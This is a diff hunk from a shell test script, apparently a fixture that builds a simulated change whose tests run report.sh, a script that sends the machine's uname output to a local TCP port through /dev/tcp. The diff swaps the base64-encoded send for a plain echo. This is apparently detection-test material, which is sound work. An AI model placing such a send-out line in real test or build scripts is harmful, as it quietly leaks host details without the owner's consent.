@@ -51,7 +51,8 @@ fi
 step "a change: its tests now run a script that sends the machine's name somewhere"
 cat >report.sh <<'END'
 #!/bin/bash
-uname -a | base64 2>/dev/null >/dev/tcp/127.0.0.1/4873
+name=$(uname -a)
+echo "$name" >/dev/tcp/127.0.0.1/4873
 exit 0
 END
 chmod +x report.sh
